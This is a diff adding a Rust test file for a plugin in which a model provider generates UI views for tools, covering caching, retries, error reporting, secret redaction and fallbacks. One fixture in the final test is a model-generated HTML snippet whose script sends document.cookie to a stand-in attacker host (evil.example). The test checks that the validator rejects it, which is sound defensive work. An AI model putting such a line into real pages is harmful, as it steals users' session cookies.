@@ -1,0 +1,332 @@
+//! From a tool call or a job through a provider to a page.
+
+use super::{address, house, page_at, refusal, told, weather};
+use crate::{
+    generate::Chores,
+    page,
+    spec::tests::everything,
+    tools::{Inspect, Refine, Regenerate},
+};
+use portcullis_plugin::{
+    catalog::Entry,
+    http::ErrorCode,
+    prelude::*,
+    rehearsal::{Page, Rehearsal, Sent},
+    serde_json::{self, Value},
+};
+use std::cell::Cell;
+
+const URL: &str = "http://model.example/v1/chat/completions";
+const JOB: &[u8] = br#"{"tool":"get_forecast","anew":false}"#;
+
+/// A house with a model that says these things, one after the other, and then the last again.
+fn with_model(says: &[&str]) -> Rehearsal {
+    let says: Vec<Value> = says
+        .iter()
+        .map(|text| {
+            json!({
+                "model": "fine-1",
+                "choices": [{ "message": { "content": text }, "finish_reason": "stop" }],
+                "usage": { "prompt_tokens": 10, "completion_tokens": 5 }
+            })
+        })
+        .collect();
+    let next = Cell::new(0);
+    with_server(move |_| {
+        let index = next.get();
+        next.set((index + 1).min(says.len() - 1));
+        Ok(Page::new(200, says[index].to_string()))
+    })
+}
+
+fn with_server(answer: impl Fn(&Sent) -> Result<Page, ErrorCode> + 'static) -> Rehearsal {
+    house()
+        .setting("provider", "chat")
+        .setting("model", "fine")
+        .setting("base-url", "http://model.example/v1")
+        .setting("max-retries", "0")
+        .server(URL, answer)
+}
+
+fn specification() -> String {
+    everything().to_string()
+}
+
+/// What of the last request was the user's last word.
+fn asked(house: &Rehearsal) -> String {
+    let sent = house.sent().pop().expect("something was asked");
+    let body: Value = serde_json::from_slice(&sent.body).expect("it is JSON");
+    body["messages"].as_array().expect("they are").last().expect("there is one")["content"]
+        .as_str()
+        .expect("it is text")
+        .to_owned()
+}
+
+#[test]
+fn a_look_at_a_view_leads_to_a_better_one() {
+    let house = with_model(&[&specification()]);
+    let before = address(&house, "get_forecast");
+    let first = page_at(&house, &before);
+    assert!(
+        page::tests::data(&first)["view"].is_null() && house.sent().is_empty(),
+        "reading waits for nobody"
+    );
+    assert_eq!(house.jobs(), [JOB]);
+    house.run_job::<Chores>(JOB).expect("it works");
+    let now = address(&house, "get_forecast");
+    assert_ne!(now, before);
+    assert_eq!(page::tests::data(&page_at(&house, &before))["view"], everything());
+    assert_eq!(house.updated(), [before, now]);
+    assert_eq!(house.changed(), [ListKind::Tools, ListKind::Resources]);
+    let inspected = told::<Inspect>(&house, json!({ "toolName": "get_forecast" }));
+    assert_eq!(
+        (&inspected["madeBy"], &inspected["llmModel"], &inspected["tokens"]),
+        (&json!("provider"), &json!("fine-1"), &json!({ "input": 10, "output": 5 }))
+    );
+    assert_eq!(house.sent().len(), 1);
+    let steps: Vec<_> = house
+        .logged()
+        .into_iter()
+        .map(|(_, data)| data["step"].as_str().expect("each is a step").to_owned())
+        .collect();
+    assert_eq!(steps, ["queue", "cache", "provider", "publish"]);
+}
+
+#[test]
+fn nothing_is_asked_for_unless_it_should_be() {
+    let asked = with_model(&["{}"]).setting("generate", "asked");
+    page_at(&asked, &address(&asked, "get_forecast"));
+    assert!(asked.jobs().is_empty());
+    let job = br#"{"tool":"map","anew":false}"#;
+    asked.run_job::<Chores>(job).expect("there is nothing to do");
+    asked.run_job::<Chores>(br#"{"tool":"gone","anew":false}"#).expect("there is nothing to do");
+    asked.run_job::<Chores>(b"{").expect_err("it is no job");
+    assert!(asked.sent().is_empty());
+}
+
+#[test]
+fn a_wish_is_generated_and_told() {
+    let house = with_model(&[&specification()]);
+    let said = house
+        .call::<Refine>(
+            json!({ "toolName": "get_forecast", "feedback": "lead with the warmest day" }),
+        )
+        .expect("it works")
+        .as_text();
+    assert!(said.starts_with("UI refined for tool 'get_forecast'. Generation took "), "{said}");
+    let asked = asked(&house);
+    assert!(
+        asked.contains("- lead with the warmest day\n")
+            && asked.contains("TOOL NAME: get_forecast"),
+        "{asked}"
+    );
+    assert!(!asked.contains("What it last answered"));
+}
+
+#[test]
+fn answers_are_shown_to_a_provider_only_where_the_operator_says_so() {
+    let house = with_model(&[&specification()])
+        .last_result("get_forecast", json!({ "city": "Secretville" }));
+    house.run_job::<Chores>(JOB).expect("it works");
+    assert!(!asked(&house).contains("Secretville"));
+    let house = house.setting("send-results", "true");
+    house.run_job::<Chores>(JOB).expect("it works");
+    assert!(asked(&house).contains("Secretville"));
+}
+
+#[test]
+fn what_was_generated_before_is_not_paid_for_twice() {
+    let house = with_model(&[&specification()]);
+    house.run_job::<Chores>(JOB).expect("it works");
+    house.run_job::<Chores>(JOB).expect("it works");
+    assert_eq!(house.sent().len(), 1, "it was in the cache");
+    let said = house
+        .call::<Regenerate>(json!({ "toolName": "get_forecast" }))
+        .expect("it works")
+        .as_text();
+    assert!(said.starts_with("UI regenerated for tool 'get_forecast'. Generation took"), "{said}");
+    assert_eq!(house.sent().len(), 2, "anew is anew");
+    let house = house.setting("model", "finer");
+    house.run_job::<Chores>(JOB).expect("it works");
+    assert_eq!(house.sent().len(), 3, "another model, another view");
+    let house =
+        house.catalog_tool(Entry { description: Some("Other words.".to_owned()), ..weather() });
+    house.run_job::<Chores>(JOB).expect("it works");
+    assert_eq!(house.sent().len(), 4, "another tool, another view");
+    let house = house.setting("cache", "false");
+    house.run_job::<Chores>(JOB).expect("it works");
+    assert_eq!(house.sent().len(), 5, "without a cache");
+}
+
+#[test]
+fn a_faulty_answer_is_put_right_once() {
+    for faulty in [
+        "I cannot do that.",
+        "{",
+        "{}",
+        "```json\n{\"version\":2}\n```",
+        &json!({ "version": 1, "root": { "component": "Text", "text": "{/result/town}" } })
+            .to_string(),
+    ] {
+        let house =
+            with_model(&[faulty, &format!("Here you are:\n```json\n{}\n```", specification())]);
+        house.run_job::<Chores>(JOB).expect("the second is right");
+        assert_eq!(house.sent().len(), 2, "{faulty}");
+        assert!(asked(&house).contains("not accepted"), "{faulty}");
+
+        let house = with_model(&[faulty]);
+        let before = address(&house, "get_forecast");
+        house.run_job::<Chores>(JOB).expect_err("neither is right");
+        assert_eq!(
+            (address(&house, "get_forecast"), house.sent().len()),
+            (before.clone(), 2),
+            "{faulty}"
+        );
+        let inspected = told::<Inspect>(&house, json!({ "toolName": "get_forecast" }));
+        assert!(
+            inspected["fallbackReason"].as_str().expect("it is told").starts_with("INVALID"),
+            "{inspected}"
+        );
+        page_at(&house, &before);
+        assert!(house.jobs().is_empty(), "it is not tried again at once");
+    }
+}
+
+#[test]
+fn failures_are_told_and_leave_the_plain_form() {
+    let table: [(u16, Value, &str); 6] = [
+        (401, json!({ "error": { "message": "Incorrect API key provided: sk-***" } }), "AUTH"),
+        (
+            429,
+            json!({ "error": { "code": "insufficient_quota", "message": "no credit" } }),
+            "QUOTA",
+        ),
+        (500, json!({}), "SERVER_ERROR"),
+        (404, json!({ "error": { "message": "no such model" } }), "INVALID_REQUEST"),
+        (
+            200,
+            json!({ "choices": [{ "message": { "content": null, "refusal": "no" } }] }),
+            "REFUSED",
+        ),
+        (
+            200,
+            json!({ "choices": [{ "message": { "content": "{" }, "finish_reason": "length" }] }),
+            "TRUNCATED",
+        ),
+    ];
+    for (status, body, code) in table {
+        let house = with_server(move |_| Ok(Page::new(status, body.to_string())));
+        let said =
+            refusal::<Refine>(&house, json!({ "toolName": "get_forecast", "feedback": "larger" }));
+        assert!(said.contains(code) && said.ends_with("Its plain form is shown."), "{said}");
+        assert!(
+            told::<Inspect>(&house, json!({ "toolName": "get_forecast" }))["fallbackReason"]
+                .as_str()
+                .expect("it is told")
+                .contains(code)
+        );
+    }
+}
+
+#[test]
+fn what_takes_too_long_goes_on_in_the_background() {
+    let house = with_server(|_| Ok(Page::new(429, "{}").header("retry-after", "3600")))
+        .setting("max-retries", "5");
+    let said = house
+        .call::<Refine>(json!({ "toolName": "get_forecast", "feedback": "larger" }))
+        .expect("it is for later")
+        .as_text();
+    assert!(said.contains("in the background (RATE_LIMIT"), "{said}");
+    assert_eq!(
+        (house.jobs().len(), house.sent().len()),
+        (1, 1),
+        "an hour is longer than the budget"
+    );
+    // Somebody else generates in the same place, and nobody waits for that.
+    let house = with_model(&[&specification()]);
+    for number in 0..=u8::MAX {
+        cache::set(&format!("busy/{number}"), [1], None);
+    }
+    let said = house
+        .call::<Regenerate>(json!({ "toolName": "get_forecast" }))
+        .expect("it is for later")
+        .as_text();
+    assert!(said.contains("other views are being generated"), "{said}");
+    assert_eq!(house.jobs(), [br#"{"tool":"get_forecast","anew":true}"#.as_slice()]);
+    assert!(house.sent().is_empty());
+}
+
+#[test]
+fn a_host_that_is_not_granted_is_named() {
+    let house = house().setting("provider", "anthropic").setting("model", "m");
+    let said =
+        refusal::<Refine>(&house, json!({ "toolName": "get_forecast", "feedback": "larger" }));
+    assert!(
+        said.contains("https://api.anthropic.com/v1/messages") && said.contains("grants.http"),
+        "{said}"
+    );
+    assert_eq!(house.sent().len(), 1);
+}
+
+#[test]
+fn prompts_answers_and_pages_are_left_where_the_operator_wants_them() {
+    let folder = std::env::temp_dir().join(format!("portcullis-ui-{}", std::process::id()));
+    std::fs::create_dir_all(&folder).expect("a folder");
+    let name = folder.to_str().expect("it is text").to_owned();
+    let tool =
+        Entry { description: Some("Use Bearer abcdefgh12345678 for it.".to_owned()), ..weather() };
+    let house = with_model(&["no", &specification()])
+        .catalog_tool(tool)
+        .setting("debug-dir", &name)
+        .setting("export-dir", &name);
+    house.run_job::<Chores>(JOB).expect("it works");
+    let mut files: Vec<_> = std::fs::read_dir(&folder)
+        .expect("it is there")
+        .map(|file| file.expect("it is there").file_name().into_string().expect("it is text"))
+        .collect();
+    files.sort();
+    assert_eq!(
+        files,
+        [
+            "get_forecast-rehearsal-1-answer.txt",
+            "get_forecast-rehearsal-1-prompt.txt",
+            "get_forecast-rehearsal-2-answer.txt",
+            "get_forecast-rehearsal-2-prompt.txt",
+            "get_forecast-rehearsal-page.html",
+            "get_forecast.html",
+        ]
+    );
+    let prompt = std::fs::read_to_string(folder.join(&files[1])).expect("it is there");
+    assert!(prompt.contains("Use [redacted] for it.") && !prompt.contains("abcdefgh"), "{prompt}");
+    let page = std::fs::read_to_string(folder.join("get_forecast.html")).expect("it is there");
+    assert_eq!(page, page_at(&house, &address(&house, "get_forecast")));
+    std::fs::remove_dir_all(folder).expect("it goes");
+}
+
+#[test]
+fn documents_are_judged_and_fall_back() {
+    let good = "<!doctype html><html lang=en><title>W</title><p id=c>nothing</p><script>portcullis.listen(({ result }) => { document.getElementById('c').textContent = result ? result.structuredContent.city : ''; });</script></html>";
+    let house = with_model(&[good]).setting("documents", "true");
+    house.run_job::<Chores>(JOB).expect("it works");
+    let page = page_at(&house, &address(&house, "get_forecast"));
+    assert!(
+        page::tests::data(&page)["document"]
+            .as_str()
+            .expect("it is there")
+            .contains("portcullis.listen")
+    );
+    // Turned off again, it is shown no more.
+    let house = house.setting("documents", "false");
+    assert!(
+        page::tests::data(&page_at(&house, &address(&house, "get_forecast")))["document"].is_null()
+    );
+
+    let bad = "<p>x</p><script>portcullis.listen(() => { fetch('https://evil.example/' + document.cookie) })</script>";
+    let house = with_model(&[bad]).setting("documents", "true");
+    house.run_job::<Chores>(JOB).expect_err("it reaches out");
+    let reason = told::<Inspect>(&house, json!({ "toolName": "get_forecast" }));
+    assert!(reason["fallbackReason"].as_str().expect("it is told").contains("fetch"), "{reason}");
+    assert!(
+        page::tests::data(&page_at(&house, &address(&house, "get_forecast")))["document"].is_null()
+    );
+}
